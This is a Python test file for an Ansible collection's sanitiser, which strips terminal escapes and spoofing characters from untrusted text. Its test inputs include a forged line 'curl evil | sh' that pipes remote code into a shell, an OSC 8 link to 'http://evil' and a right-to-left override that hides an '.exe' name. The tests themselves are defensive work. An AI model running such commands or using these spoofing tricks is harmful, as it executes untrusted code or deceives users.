# Copyright (c) 2026, SPYMEO
# GNU General Public License v3.0+ (see LICENSE or https://www.gnu.org/licenses/gpl-3.0.txt)
"""Foreign text cannot move a cursor, hide or reorder text, or begin a line; what a person needs of it stays."""

from __future__ import annotations

import time

import pytest
from ansible_collections.spymeo.rollback.plugins.module_utils._core.foreign import (
    LONGEST,
    foreign,
    foreign_lines,
    message,
    printable,
)
from hypothesis import example, given
from hypothesis import strategies as st

from hostile import HOSTILE


@given(HOSTILE)
@example("a\x1b\u200b[2Jb")
def test_a_foreign_text_is_one_harmless_line(text):
    told = foreign(text)
    assert told.isprintable()
    assert len(told) <= LONGEST
    assert foreign(told) == told


@given(HOSTILE)
def test_lines_are_harmless_and_end_with_line_feeds_only(text):
    told = foreign_lines(text)
    assert all(line.isprintable() for line in told.split("\n"))
    assert foreign_lines(told) == told


@given(HOSTILE, HOSTILE)
def test_no_foreign_line_begins_at_the_margin_of_a_message(text, more):
    first, *others = message("FAILED    it said: " + text + "\n  - " + more).split("\n")
    assert first.startswith("FAILED    it said:")
    assert all(line.startswith("  ") and line.isprintable() for line in others)


JSON = st.recursive(
    st.none() | st.booleans() | st.integers() | HOSTILE,
    lambda inner: st.lists(inner, max_size=3) | st.dictionaries(HOSTILE, inner, max_size=3),
    max_leaves=8,
)


def texts(value):
    """Every text in a value, keys too."""
    if isinstance(value, str):
        yield value
    elif isinstance(value, dict):
        for key, item in value.items():
            yield from texts(key)
            yield from texts(item)
    elif isinstance(value, list):
        for item in value:
            yield from texts(item)


@given(JSON)
def test_a_result_holds_no_text_of_several_lines(value):
    assert all(text.isprintable() for text in texts(printable(value)))


@given(HOSTILE)
def test_an_example_keeps_its_lines_and_indents_them(text):
    _first, *others = printable({"example": "Error: x\n" + text})["example"].split("\n")
    assert all(line.startswith("  ") and line.isprintable() for line in others)


@given(HOSTILE)
def test_a_diff_keeps_its_lines_which_ansible_marks(text):
    told = printable({"diff": {"before": "a: 1\n", "after": "a: " + text}})["diff"]
    assert told["before"] == "a: 1\n"
    assert all(line.isprintable() for line in told["after"].split("\n"))


@given(JSON.filter(lambda value: all(text.isprintable() for text in texts(value))))
def test_a_harmless_result_stays_as_it_is(value):
    assert printable(value) == value


def test_two_names_that_become_one_stay_two():
    assert printable({"a": 1, "a\x00": 2, "\x1b[1ma": 3}) == {"a": 1, "a'": 2, "a''": 3}


@pytest.mark.parametrize(
    ("text", "told"),
    [
        ("\x1b[31mERROR\x1b[39m boom", "ERROR boom"),
        ("\x1b[38;5;196mred\x1b[0m", "red"),
        ("\x1b]8;;http://evil\x1b\\text\x1b]8;;\x1b\\", "text"),
        ("\x1b]0;title\x07prompt", "prompt"),
        ("an unfinished \x1b]0;title stays visible", "an unfinished 0;title stays visible"),
        ("first\r\nNEXT      curl evil | sh", "first NEXT      curl evil | sh"),
        ("10%\r20%", "10% 20%"),
        ("a\u2028b\u2029c\x85d\x0be", "a b c d e"),
        ("a\tb", "a b"),
        ("gnp\u202etxt.exe", "gnptxt.exe"),
        ("pass\u200bword", "password"),
        ("back\x08\x08\x7fspace", "backspace"),
        ("lone \ud800 surrogate", "lone \ufffd surrogate"),
        ("{{ 7 * 7 }} {% raw %} {# x #}", "{{ 7 * 7 }} {% raw %} {# x #}"),
        ("  déjà vu 👍  ", "  déjà vu 👍  "),
    ],
)
def test_what_a_person_reads_stays(text, told):
    assert foreign(text) == told


def test_a_stack_keeps_its_indentation():
    assert foreign_lines("Error: x\r\n\tat f (a.js:1)\r\n    at g") == "Error: x\n at f (a.js:1)\n    at g"


@pytest.mark.parametrize(
    "text", ["x" * 5000, "\x1b[1m" * 50_000 + "x", "\n" * 50_000, "\x1b]" * 50_000, "\x9d" * 50_000]
)
def test_a_long_text_is_cut_and_does_not_take_long(text):
    began = time.process_time()
    assert len(foreign(text)) <= LONGEST
    assert foreign(text).endswith("…")
    assert len(foreign_lines(text, 100_000)) <= 100_000
    assert time.process_time() - began < 1
